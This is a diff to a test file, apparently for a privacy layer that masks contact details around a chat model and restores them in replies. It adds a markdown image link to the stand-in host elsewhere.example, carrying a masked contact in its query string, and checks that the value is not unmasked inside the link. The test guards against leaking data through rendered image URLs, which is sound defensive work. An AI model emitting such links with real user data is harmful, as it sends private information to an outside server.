@@ -690,8 +690,9 @@ def test_only_classes_that_may_be_restored_are(talks: Make, house: House) -> Non
     mail = next(
         word for word in json.dumps(gate.provider.asked).replace('"', " ").split() if word.startswith("masked-contact")
     )
-    text, calls = talk.send(f"{token} of {mail}", Call("look_up", {"name": token + mail}))
-    assert text == f"{token} of {MAIL}"
+    link = f"![](https://elsewhere.example/?{mail})"
+    text, calls = talk.send(f"{token} of {mail} {link}", Call("look_up", {"name": token + mail}))
+    assert text == f"{token} of {MAIL} {link}", "whoever serves the link would get it"
     assert calls[0][2] == {"name": token + MAIL}
 
 
